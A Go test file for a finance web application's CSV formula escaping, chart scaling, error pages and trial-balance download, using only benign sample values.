func TestSpreadsheetCellNeutralisesFormulasButKeepsNumbers(t *testing.T) {
	for in, want := range map[string]string{
		"=1+2": "'=1+2", "+1": "'+1", "-1+2": "'-1+2", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"-": "'-", "-.5": "'-.5", "-1.": "'-1.", "-1e3": "'-1e3", "--1": "'--1", "- 1": "'- 1",
		"-123.45": "-123.45", "-0.00": "-0.00", "0": "0", "1234567.89": "1234567.89", "12": "12",
		"": "", "ICBC-JX": "ICBC-JX", "中国银行": "中国银行", "'quoted": "'quoted", "a=b": "a=b",
	} {
		if got := spreadsheetCell(in); got != want {
			t.Errorf("spreadsheetCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestFinanceChartScalesNegativeAndLargeAmounts: the axis holds zero and the week's extremes on
// steps of 1, 2 or 5 times a power of ten; banks past ten are drawn as "other banks".
func TestFinanceChartScalesNegativeAndLargeAmounts(t *testing.T) {
	for _, c := range []struct{ hi, lo, step int64 }{
		{0, 0, 100_00}, {1, 0, 1}, {10_00, 0, 200}, {1_000_00, -3_000_00, 1_000_00}, {7_000_00, -6_300_00, 5_000_00},
		{1 << 62, -(1 << 62), 2_000_000_000_000_000_000}, {1<<63 - 1, -1 << 63, 1 << 62},
	} {
		if got := niceStep(c.hi, c.lo); got != c.step {
			t.Errorf("niceStep(%d, %d) = %d, want %d", c.hi, c.lo, got, c.step)
		}
	}
	week := map[settlement.Date]map[string]int64{}
	names := map[string]string{}
	for i := 0; i < 12; i++ {
		bank := fmt.Sprintf("B%02d", i)
		names[bank] = "银行" + bank
		week[financeDay] = mapWith(week[financeDay], bank, int64(i+1)*100_00)
	}
	week[financeEarly] = map[string]int64{"B00": -1<<63 + 1}
	v := newChart(financeDay, week, names)
	if len(v.Legend) != chartMaxBanks || v.Legend[chartMaxBanks-1].Label != "other banks" || v.Legend[0].Label != "B00 银行B00" {
		t.Fatalf("legend %+v", v.Legend)
	}
	// Nine banks are drawn apart (B00 for its week's extreme); B01, B02 and B03, the smallest,
	// together: 2 + 3 + 4 hundred.
	var other []string
	for _, bar := range v.Bars {
		if strings.HasPrefix(bar.Title, "other banks") {
			other = append(other, bar.Title)
		}
		if bar.H < 1 || bar.Y < v.Top-0.01 || bar.Y+bar.H > v.Bottom+0.01 {
			t.Errorf("bar %+v outside the plot", bar)
		}
	}
	if !slices.Equal(other, []string{"other banks, cycle 2026-02-28: 900.00 CNY"}) {
		t.Errorf("other banks' bars %q", other)
	}
	if v.ZeroY <= v.Top || v.ZeroY >= v.Bottom {
		t.Errorf("zero at %v, outside %v..%v", v.ZeroY, v.Top, v.Bottom)
	}
	if e := newChart(financeDay, nil, nil); !e.Empty {
		t.Error("a week without files is not empty")
	}
}

func mapWith(m map[string]int64, k string, v int64) map[string]int64 {
	if m == nil {
		m = map[string]int64{}
	}
	m[k] = v
	return m
}

// TestFinancePagesFailWithoutDetail: a store failure is a 500 page saying only "internal
// error", the detail in the log; the store busy is a 503 that says so.
func TestFinancePagesFailWithoutDetail(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	e.finance().fail("Breaks", errors.Join(errBroken))
	w := b.get(t, "/finance/breaks")
	wantPageError(t, w, 500, "internal error")
	if strings.Contains(w.Body.String(), errBroken.Error()) {
		t.Error("the page shows the failure's detail")
	}
	e.finance().fail("Breaks", busy)
	w = b.get(t, "/finance/")
	wantPageError(t, w, 503, "busy")
	if w.Header().Get("Retry-After") == "" {
		t.Error("503 without Retry-After")
	}
}

// TestFinanceTrialBalanceCSVIsAtThePagesInstant: an instant with a fraction of a second gives a
// download link at that very instant, not the second before, and the CSV names it whole: the
// page and its download show the same figures.
func TestFinanceTrialBalanceCSVIsAtThePagesInstant(t *testing.T) {
	e := newEnv(t)
	b := loginAs(t, e, "Anna")
	want := time.Date(2026, 2, 28, 15, 0, 0, 500_000, time.UTC)
	body := checkPage(t, b.get(t, "/finance/trial-balance?at=2026-02-28T15:00:00.0005Z"))
	m := regexp.MustCompile(`href="(/finance/trial-balance\.csv\?at=[^"]*)"`).FindStringSubmatch(body)
	if m == nil {
		t.Fatal("no download link")
	}
	f := e.finance()
	f.trialAsked = nil
	w := b.get(t, html.UnescapeString(m[1]))
	if len(f.trialAsked) != 1 || !f.trialAsked[0].Equal(want) {
		t.Fatalf("the download at %s asked at %v, want %v", m[1], f.trialAsked, want)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(w.Body.Bytes(), []byte(utf8BOM)))).ReadAll()
	if err != nil || len(rows) < 2 || rows[1][0] != "2026-02-28T23:00:00.0005+08:00" {
		t.Errorf("the download's instant: %q %v", rows, err)
	}
}
